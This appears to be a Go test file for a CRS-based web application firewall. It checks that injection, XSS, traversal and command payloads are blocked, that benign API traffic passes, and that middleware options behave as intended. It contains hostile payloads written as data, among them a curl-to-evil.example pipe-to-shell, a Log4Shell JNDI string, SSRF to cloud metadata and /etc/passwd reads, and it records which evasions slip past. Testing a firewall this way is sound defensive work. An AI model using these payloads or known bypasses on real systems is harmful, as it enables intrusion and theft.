package waf

import (
	"context"
	"encoding/base64"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/gatehouse/gatehouse"
	"github.com/gatehouse/gatehouse/httpx"
)

// The CRS takes about half a second to load (several seconds under -race):
// each configuration is built once per test binary and shared.
type once struct {
	sync.Once
	w   *WAF
	err error
}

var (
	pl1Once, pl2Once, customOnce once

	netipLoopback = netip.MustParseAddr("127.0.0.1")
)

func (o *once) get(t testing.TB, opts Options) *WAF {
	t.Helper()
	o.Do(func() { o.w, o.err = New(opts) })
	if o.err != nil {
		t.Fatalf("New: %v", o.err)
	}
	return o.w
}

// pl1 is the default gateway configuration: PL1, threshold 5, bodies on.
func pl1(t testing.TB) *WAF {
	return pl1Once.get(t, Options{ParanoiaLevel: 1, InspectBody: true, MaxBody: 64 << 10,
		AllowedContentTypes: []string{"application/merge-patch+json"}})
}

func pl2(t testing.TB) *WAF {
	return pl2Once.get(t, Options{ParanoiaLevel: 2, InspectBody: true, MaxBody: 64 << 10,
		AllowedContentTypes: []string{"application/merge-patch+json"}})
}

// customRules is loaded by the custom WAF from testdata/extra.conf.
const customDirectives = `SecRule REMOTE_ADDR "@ipMatch 203.0.113.7" "id:10001,phase:1,deny,status:403,log,msg:'denied client'"`

// custom has a global exclusion, an extra rules file and inline directives.
func custom(t testing.TB) *WAF {
	return customOnce.get(t, Options{InspectBody: true, MaxBody: 1 << 10,
		ExcludeRules: []int{941100, 941110, 941160, 941390, 941120, 941180},
		RuleFiles:    []string{filepath.Join("testdata", "extra.conf")},
		Directives:   customDirectives})
}

// req builds a server-side request whose request target is sent verbatim
// (attack strings are often not valid URLs for httptest.NewRequest).
func req(method, target, ct, body string) *http.Request {
	u, err := url.ParseRequestURI(target)
	if err != nil {
		u = &url.URL{Path: "/search"}
	}
	r := &http.Request{Method: method, URL: u, RequestURI: target, Proto: "HTTP/1.1", ProtoMajor: 1, ProtoMinor: 1,
		Header: http.Header{"User-Agent": {"gatehouse-test/1.0"}, "Accept": {"application/json"}}, Host: "api.example.com",
		RemoteAddr: "192.0.2.10:40000", Body: http.NoBody}
	if body != "" {
		r.Body = io.NopCloser(strings.NewReader(body))
		r.ContentLength = int64(len(body))
		r.Header.Set("Content-Type", ct)
	}
	return r.WithContext(httpx.WithBodyCache(context.Background()))
}

func check(t testing.TB, w *WAF, r *http.Request) Verdict {
	t.Helper()
	v, err := w.Check(r, netip.MustParseAddr("192.0.2.10"), nil)
	if err != nil {
		t.Fatalf("Check(%s %s): %v", r.Method, r.RequestURI, err)
	}
	return v
}

// Attack payloads, one per family, in each place an API takes input.
var attacks = []struct{ family, payload string }{
	{"sqli", "1' UNION SELECT password FROM users--"},
	{"xss", "<script>alert(document.cookie)</script>"},
	{"cmd", ";cat /etc/passwd"},
	{"traversal", "../../../../etc/passwd"},
}

func TestAttacksBlockedPL1(t *testing.T) {
	w := pl1(t)
	for _, a := range attacks {
		jb := `{"name":"ann","comment":` + jsonString(a.payload) + `}`
		for _, tc := range []struct {
			where string
			r     *http.Request
		}{
			{"query", req("GET", "/search?q="+url.QueryEscape(a.payload), "", "")},
			{"query raw", req("GET", "/search?q="+a.payload, "", "")},
			{"json body", req("POST", "/comments", "application/json", jb)},
			{"json+suffix body", req("POST", "/comments", "application/merge-patch+json", jb)},
			{"json array body", req("POST", "/comments", "application/json", `[`+jb+`]`)},
			{"form body", req("POST", "/comments", "application/x-www-form-urlencoded", "name=ann&comment="+url.QueryEscape(a.payload))},
			{"cookie", func() *http.Request {
				r := req("GET", "/me", "", "")
				r.Header.Set("Cookie", "pref="+url.QueryEscape(a.payload))
				return r
			}()},
		} {
			t.Run(a.family+"/"+tc.where, func(t *testing.T) {
				v := check(t, w, tc.r)
				if !v.Blocked || v.Status != http.StatusForbidden || v.Reason != ReasonAnomaly || v.RuleID != 949110 {
					t.Fatalf("Check(%s in %s) = %+v, want blocked 403 anomaly by 949110", a.payload, tc.where, v)
				}
				if len(v.Matched) < 2 {
					t.Errorf("Matched = %v, want the attack rule(s) and 949110", v.Matched)
				}
			})
		}
	}
}

// TestHeaderCoverage pins which headers the CRS inspects at PL1: the ones
// browsers and scanners use (User-Agent, Referer, Cookie) for SQLi; any
// header for XSS and traversal. A SQLi or command payload in an arbitrary
// API header (X-Custom) is NOT caught at PL1: the contract stage's
// header-parameter validation is what covers those.
func TestHeaderCoverage(t *testing.T) {
	w := pl1(t)
	for _, tc := range []struct {
		header, family string
		want           bool
	}{
		{"User-Agent", "sqli", true},
		{"Referer", "sqli", true},
		{"X-Custom", "sqli", false},
		{"User-Agent", "xss", true},
		{"X-Custom", "xss", true},
		{"X-Custom", "traversal", true},
		{"User-Agent", "cmd", false},
		{"X-Custom", "cmd", false},
	} {
		t.Run(tc.header+"/"+tc.family, func(t *testing.T) {
			var p string
			for _, a := range attacks {
				if a.family == tc.family {
					p = a.payload
				}
			}
			r := req("GET", "/me", "", "")
			r.Header.Set(tc.header, p)
			if v := check(t, w, r); v.Blocked != tc.want {
				t.Errorf("%s: %q blocked = %v (%s), want %v", tc.header, p, v.Blocked, v.RuleIDs(), tc.want)
			}
		})
	}
}

// TestEvasions sends encoded and obfuscated variants. want is what was
// measured with CRS 4.25 at PL1; a change either way fails, so the docs'
// list of what passes stays true. The CRS's transformations (URL-decode
// twice, UTF-8 to Unicode, HTML entities, comment removal, lower case)
// catch every encoding tried here; what passes is SQLi in a path segment
// (the SQLi rules look at arguments, not REQUEST_FILENAME) and template
// injection ({{7*7}}), for which PL1 has no rule.
func TestEvasions(t *testing.T) {
	w := pl1(t)
	for _, tc := range []struct {
		name string
		r    *http.Request
		want bool
	}{
		{"sqli double url-encoded", req("GET", "/search?q=1%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users--", "", ""), true},
		{"sqli mixed case", req("GET", "/search?q=1'+uNiOn+SeLeCt+password+FrOm+users--", "", ""), true},
		{"sqli comment-split keywords UN/**/ION", req("GET", "/search?q=1'+UN/**/ION+SEL/**/ECT+password+FROM+users--", "", ""), true},
		{"sqli comments as spaces", req("GET", "/search?q=1'/**/UNION/**/SELECT/**/password/**/FROM/**/users--", "", ""), true},
		{"sqli mysql versioned comment", req("GET", "/search?q=1'/*!50000UNION*/+/*!50000SELECT*/+password+FROM+users--", "", ""), true},
		{"sqli tautology", req("GET", "/search?q='+or+''='", "", ""), true},
		{"sqli numeric tautology", req("GET", "/items?id=1+OR+1=1", "", ""), true},
		{"sqli split across duplicate params", req("GET", "/search?q=1'+UNION&q=SELECT+password+FROM+users--", "", ""), true},
		{"sqli json unicode escapes", req("POST", "/c", "application/json", `{"q":"1\u0027 UNION SELECT password FROM users--"}`), true},
		{"sqli json escaped key", req("POST", "/c", "application/json", `{"\u0071":"1' UNION SELECT password FROM users--"}`), true},
		{"sqli in json key", req("POST", "/c", "application/json", `{"1' UNION SELECT password FROM users--":1}`), true},
		{"sqli json as text/plain", req("POST", "/c", "text/plain", `{"q":"1' UNION SELECT password FROM users--"}`), true},
		{"xss url-encoded", req("GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", ""), true},
		{"xss double url-encoded", req("GET", "/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", "", ""), true},
		{"xss mixed case", req("GET", "/search?q=<ScRiPt>alert(1)</sCrIpT>", "", ""), true},
		{"xss event handler", req("GET", "/search?q=<img+src=x+onerror=alert(1)>", "", ""), true},
		{"xss json unicode escapes", req("POST", "/c", "application/json", `{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`), true},
		{"xss fullwidth brackets", req("GET", "/search?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E", "", ""), true},
		{"xss html entities", req("GET", "/search?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;", "", ""), true},
		{"sqli split across two params", req("GET", "/search?a=1'+UNION&b=SELECT+password+FROM+users--", "", ""), true},
		{"sqli auth bypass admin'--", req("POST", "/login", "application/json", `{"user":"admin'--","password":"x"}`), true},
		{"sqli time-based", req("GET", "/items?id=1'+AND+SLEEP(5)--", "", ""), true},
		{"nosql $ne operator", req("POST", "/login", "application/json", `{"user":"admin","password":{"$ne":null}}`), true},
		{"nosql $where", req("POST", "/login", "application/json", `{"$where":"this.password.length>0"}`), true},
		{"sqli in path segment", req("GET", "/users/1'%20UNION%20SELECT%20password%20FROM%20users--", "", ""), false},
		{"xss in path segment", req("GET", "/users/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", ""), true},
		{"ssti", req("GET", "/search?q={{7*7}}", "", ""), false},
		{"log4shell", req("GET", "/search?q=${jndi:ldap://evil.example/a}", "", ""), true},
		{"ssrf metadata", req("GET", "/fetch?url=http://169.254.169.254/latest/meta-data/", "", ""), true},
		{"traversal double url-encoded", req("GET", "/files?name=..%252f..%252f..%252fetc%252fpasswd", "", ""), true},
		{"traversal encoded dots", req("GET", "/files?name=%2e%2e%2f%2e%2e%2fetc%2fpasswd", "", ""), true},
		{"traversal overlong utf-8", req("GET", "/files?name=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "", ""), true},
		{"cmd IFS", req("GET", "/ping?host=127.0.0.1;cat${IFS}/etc/passwd", "", ""), true},
		{"cmd quote-split", req("GET", "/ping?host=127.0.0.1;c'a't+/e'tc'/pa''sswd", "", ""), true},
		{"undeclared content type", req("POST", "/c", "application/x-evil", `a=b`), true},
		{"cmd substitution", req("GET", "/ping?host=$(curl+http://evil.example/x.sh|sh)", "", ""), true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v := check(t, w, tc.r)
			if v.Blocked != tc.want {
				t.Errorf("%s: blocked = %v (rules %s), measured %v", tc.r.RequestURI, v.Blocked, v.RuleIDs(), tc.want)
			}
		})
	}
}

func jsonString(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, c := range s {
		switch c {
		case '"', '\\':
			b.WriteByte('\\')
			b.WriteRune(c)
		default:
			b.WriteRune(c)
		}
	}
	b.WriteByte('"')
	return b.String()
}

// TestBenignPasses: ordinary API traffic with apostrophes, ampersands,
// SQL-ish English words and prose must not be blocked at PL1.
func TestBenignPasses(t *testing.T) {
	w := pl1(t)
	for _, tc := range []struct {
		name string
		r    *http.Request
	}{
		{"apostrophe name in query", req("GET", "/users?name=O%27Brien", "", "")},
		{"apostrophe names in json", req("POST", "/users", "application/json",
			`{"name":"Seán O'Brien","company":"O'Reilly & Sons","note":"I'm in, d'Artagnan's too"}`)},
		{"prose with sql words", req("POST", "/notes", "application/json",
			`{"text":"Please select the best option from the list and update your order; we'll delete the draft."}`)},
		{"address", req("POST", "/addresses", "application/json",
			`{"line1":"10 Downing St.","city":"London","zip":"SW1A 2AA","country":"GB"}`)},
		{"form with apostrophe", req("POST", "/users", "application/x-www-form-urlencoded", "name=D%27Angelo&city=L%27Aquila")},
		{"delete method", req("DELETE", "/users/42", "", "")},
		{"patch merge-patch+json (allowed by option)", req("PATCH", "/users/42", "application/merge-patch+json", `{"nickname":"Rock 'n' Roll"}`)},
		{"iso date and email", req("GET", "/events?from=2026-11-27T12:00:00Z&email=ann%2Btest%40example.com", "", "")},
		{"bearer jwt and api key headers", func() *http.Request {
			r := req("GET", "/me", "", "")
			enc := base64.RawURLEncoding.EncodeToString
			r.Header.Set("Authorization", "Bearer "+enc([]byte(`{"alg":"RS256","typ":"JWT","kid":"k1"}`))+"."+
				enc([]byte(`{"iss":"https://idp.example.com/","sub":"user-42","aud":"orders-api","exp":1790000000,"scope":"orders:read orders:write"}`))+"."+
				enc([]byte(strings.Repeat("\x8f\x01\xfe", 86))))
			r.Header.Set("X-Api-Key", "ghk_2f8c1e0b9a7d4c3b_QmFzZTY0K1NsYXNoLz0=")
			return r
		}()},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if v := check(t, w, tc.r); v.Blocked {
				t.Errorf("benign %s %s blocked by %s (%v)", tc.r.Method, tc.r.RequestURI, v.RuleIDs(), v.Matched)
			}
		})
	}
}

// serve runs the middleware over one request with a route and record in
// the context, and reports the status, whether the next handler ran, the
// body it read, and the record.
func serve(h func(http.Handler) http.Handler, r *http.Request, rt *gatehouse.Route) (int, bool, string, gatehouse.RecordView) {
	rec := &gatehouse.Record{RequestID: "req-1"}
	ctx := gatehouse.NewRecordContext(r.Context(), rec)
	if rt != nil {
		ctx = gatehouse.WithRoute(ctx, rt)
	}
	var reached bool
	var got string
	next := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		reached = true
		b, _ := io.ReadAll(r.Body)
		got = string(b)
		w.WriteHeader(http.StatusNoContent)
	})
	rw := httptest.NewRecorder()
	h(next).ServeHTTP(rw, r.WithContext(ctx))
	if reached {
		return rw.Code, true, got, rec.Snapshot()
	}
	if strings.Contains(rw.Body.String(), "942") || strings.Contains(rw.Body.String(), "SQL") {
		panic("rule text in the response body: " + rw.Body.String())
	}
	return rw.Code, false, got, rec.Snapshot()
}

func TestMiddleware(t *testing.T) {
	w := pl1(t)
	sqli := func() *http.Request {
		return req("POST", "/search", "application/json", `{"q":"1' UNION SELECT password FROM users--"}`)
	}
	type obs struct{ op, outcome string }
	var seen []obs
	mw := w.Middleware(MiddlewareOptions{
		Operations: map[string]Operation{
			"upload":   {Disabled: true},
			"search":   {ExcludeRules: []int{942100, 942190, 942270, 942360}},
			"lookup":   {ExcludeRules: []int{941100}},
			"explicit": {},
		},
		Observe: func(op, outcome string) { seen = append(seen, obs{op, outcome}) },
	})
	for _, tc := range []struct {
		name        string
		rt          *gatehouse.Route
		r           *http.Request
		wantStatus  int
		wantReached bool
		wantStage   string
		wantOutcome string
	}{
		{"enforce blocks", &gatehouse.Route{OperationID: "createNote"}, sqli(), 403, false, "waf", OutcomeBlocked},
		{"unrouted blocks", nil, sqli(), 403, false, "waf", OutcomeBlocked},
		{"monitor passes and records", &gatehouse.Route{OperationID: "createNote", Mode: gatehouse.Monitor}, sqli(), 204, true, "", OutcomeMonitored},
		{"disabled operation skipped", &gatehouse.Route{OperationID: "upload"}, sqli(), 204, true, "", OutcomeSkipped},
		{"excluded rules for operation", &gatehouse.Route{OperationID: "search"}, sqli(), 204, true, "", OutcomePass},
		{"other operation's exclusions do not apply", &gatehouse.Route{OperationID: "lookup"}, sqli(), 403, false, "waf", OutcomeBlocked},
		{"benign passes, body intact", &gatehouse.Route{OperationID: "createNote"},
			req("POST", "/notes", "application/json", `{"text":"O'Brien's note"}`), 204, true, "", OutcomePass},
		{"unparsable json body", &gatehouse.Route{OperationID: "createNote"},
			req("POST", "/notes", "application/json", `{"text": "unterminated`), 400, false, "waf", OutcomeBlocked},
	} {
		t.Run(tc.name, func(t *testing.T) {
			seen = nil
			body := ""
			if tc.r.Body != http.NoBody {
				b, _ := io.ReadAll(tc.r.Body)
				body = string(b)
				tc.r.Body = io.NopCloser(strings.NewReader(body))
			}
			code, reached, got, rec := serve(mw, tc.r, tc.rt)
			if code != tc.wantStatus || reached != tc.wantReached || rec.Stage != tc.wantStage {
				t.Fatalf("status %d reached %v stage %q (%s), want %d %v %q", code, reached, rec.Stage, rec.Reason,
					tc.wantStatus, tc.wantReached, tc.wantStage)
			}
			if reached && got != body {
				t.Errorf("next handler read body %q, want %q (the WAF must restore it)", got, body)
			}
			if len(seen) != 1 || seen[0].outcome != tc.wantOutcome {
				t.Errorf("Observe calls = %v, want one %q", seen, tc.wantOutcome)
			}
			if tc.wantOutcome == OutcomeMonitored {
				if len(rec.Monitored) != 1 || rec.Monitored[0] != "waf: anomaly" {
					t.Errorf("Monitored = %v, want [waf: anomaly]", rec.Monitored)
				}
			}
			if tc.wantOutcome == OutcomeBlocked || tc.wantOutcome == OutcomeMonitored {
				if rec.Attrs["waf_rules"] == "" || rec.Attrs["waf_messages"] == "" {
					t.Errorf("record attrs = %v, want waf_rules and waf_messages", rec.Attrs)
				}
			}
		})
	}
	t.Run("forced monitor overrides enforce route", func(t *testing.T) {
		m := gatehouse.Monitor
		code, reached, _, rec := serve(w.Middleware(MiddlewareOptions{Mode: &m}), sqli(), &gatehouse.Route{OperationID: "x"})
		if code != 204 || !reached || len(rec.Monitored) != 1 {
			t.Fatalf("status %d reached %v monitored %v, want the request let through and recorded", code, reached, rec.Monitored)
		}
	})
	t.Run("generic problem body", func(t *testing.T) {
		rw := httptest.NewRecorder()
		r := sqli()
		w.Middleware(MiddlewareOptions{})(http.NotFoundHandler()).ServeHTTP(rw, r)
		b := rw.Body.String()
		if rw.Code != 403 || !strings.Contains(rw.Header().Get("Content-Type"), "problem+json") {
			t.Fatalf("status %d content type %q, want 403 problem+json", rw.Code, rw.Header().Get("Content-Type"))
		}
		for _, leak := range []string{"942", "949", "SQL", "Anomaly", "UNION", "libinjection"} {
			if strings.Contains(b, leak) {
				t.Errorf("response body %q leaks %q", b, leak)
			}
		}
	})
}

// TestClientIPFromResolver: the CRS sees the gateway's resolved client
// address, not the TCP peer and not a client-sent X-Forwarded-For.
func TestClientIPFromResolver(t *testing.T) {
	w := custom(t)
	resolved := netip.MustParseAddr("203.0.113.7")
	for _, tc := range []struct {
		name     string
		resolver func(*http.Request) netip.Addr
		xff      string
		want     int
	}{
		{"resolved address denied by REMOTE_ADDR rule", func(*http.Request) netip.Addr { return resolved }, "", 403},
		{"spoofed X-Forwarded-For ignored", nil, "203.0.113.7", 204},
		{"other resolved address passes", func(*http.Request) netip.Addr { return netip.MustParseAddr("198.51.100.1") }, "203.0.113.7", 204},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := req("GET", "/me", "", "")
			if tc.xff != "" {
				r.Header.Set("X-Forwarded-For", tc.xff)
			}
			code, _, _, rec := serve(w.Middleware(MiddlewareOptions{ClientIP: tc.resolver}), r, nil)
			if code != tc.want {
				t.Fatalf("status %d (record %+v), want %d", code, rec, tc.want)
			}
			if tc.want == 403 && (rec.Reason != ReasonRule || !strings.Contains(rec.Attrs["waf_rules"], "10001")) {
				t.Errorf("record = %+v, want reason rule by 10001", rec)
			}
		})
	}
}

func TestOptionsApplied(t *testing.T) {
	w := custom(t)
	t.Run("global exclusion", func(t *testing.T) {
		// every XSS rule matching a script tag is excluded in the custom WAF
		if v := check(t, w, req("GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", "")); v.Blocked {
			t.Errorf("excluded XSS rules still blocked: %s", v.RuleIDs())
		}
		if v := check(t, w, req("GET", "/search?q=1'+UNION+SELECT+password+FROM+users--", "", "")); !v.Blocked {
			t.Errorf("SQLi passed: exclusions removed more than the listed rules")
		}
	})
	t.Run("extra rules file", func(t *testing.T) {
		v := check(t, w, req("GET", "/search?debug=1", "", ""))
		if !v.Blocked || v.RuleID != 10002 || v.Reason != ReasonRule {
			t.Errorf("Check(debug=1) = %+v, want blocked by 10002 from testdata/extra.conf", v)
		}
	})
	t.Run("rule count", func(t *testing.T) {
		if n := w.Rules(); n < 500 {
			t.Errorf("Rules() = %d, want the CRS (> 500 rules)", n)
		}
	})
}

// countingReader is an endless body that counts what was read from it.
type countingReader struct{ n int64 }

func (c *countingReader) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'a'
	}
	c.n += int64(len(p))
	return len(p), nil
}

// TestBodyLimit: an oversize body is refused with 413 after reading at
// most the limit (plus one read buffer), never read to the end.
func TestBodyLimit(t *testing.T) {
	w := custom(t) // MaxBody 1 KiB
	body := &countingReader{}
	r := req("POST", "/notes", "", "")
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	r.Body = io.NopCloser(body)
	r.ContentLength = -1
	code, reached, _, rec := serve(w.Middleware(MiddlewareOptions{}), r, nil)
	if code != http.StatusRequestEntityTooLarge || reached || rec.Reason != ReasonBodyTooLarge {
		t.Fatalf("status %d reached %v reason %q, want 413 body_too_large", code, reached, rec.Reason)
	}
	if body.n > 64<<10 {
		t.Errorf("read %d bytes of an endless body, want about 1 KiB", body.n)
	}
	// exactly at the limit is inspected and passes
	ok := req("POST", "/notes", "application/x-www-form-urlencoded", "a="+strings.Repeat("b", 1022))
	if code, reached, _, _ := serve(w.Middleware(MiddlewareOptions{}), ok, nil); code != 204 || !reached {
		t.Errorf("1 KiB body: status %d reached %v, want 204", code, reached)
	}
}

func TestNewErrors(t *testing.T) {
	for _, tc := range []struct {
		name string
		o    Options
		want string
	}{
		{"paranoia level", Options{ParanoiaLevel: 5}, "paranoia level"},
		{"threshold", Options{AnomalyThreshold: -1}, "anomaly threshold"},
		{"negative rule id", Options{ExcludeRules: []int{-3}}, "rule id"},
		{"missing rules file", Options{RuleFiles: []string{"testdata/nope.conf"}}, "rules file"},
		{"setvar injection in content type", Options{AllowedContentTypes: []string{"text/x',setvar:tx.x=1"}}, "unsupported character"},
		{"method with space", Options{AllowedMethods: []string{"GET POST"}}, "unsupported character"},
		{"bad directive", Options{Directives: "SecNoSuchDirective On"}, "load rules"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := New(tc.o)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("New(%s) error = %v, want one containing %q", tc.name, err, tc.want)
			}
		})
	}
}

var _ = os.ReadFile

// TestCloseKeepsOtherWAFs mirrors a reload: the new WAF is built while the
// old one is open, then the old one is closed; the new one must keep
// working (Coraza's shared pattern cache is reference counted by owner).
func TestCloseKeepsOtherWAFs(t *testing.T) {
	o := Options{ParanoiaLevel: 1, InspectBody: true, AnomalyThreshold: 5, MaxBody: 4 << 10}
	old, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	cur, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	defer cur.Close()
	if err := old.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	if err := old.Close(); err != nil {
		t.Fatalf("second Close: %v", err)
	}
	for _, tc := range []struct {
		r    *http.Request
		want bool
	}{
		{req("GET", "/search?q=1'+UNION+SELECT+password+FROM+users--", "", ""), true},
		{req("POST", "/c", "application/json", `{"q":"<script>alert(1)</script>"}`), true},
		{req("GET", "/search?q=O%27Brien", "", ""), false},
	} {
		if v := check(t, cur, tc.r); v.Blocked != tc.want {
			t.Errorf("after the old WAF closed: %s blocked = %v, want %v", tc.r.RequestURI, v.Blocked, tc.want)
		}
	}
}
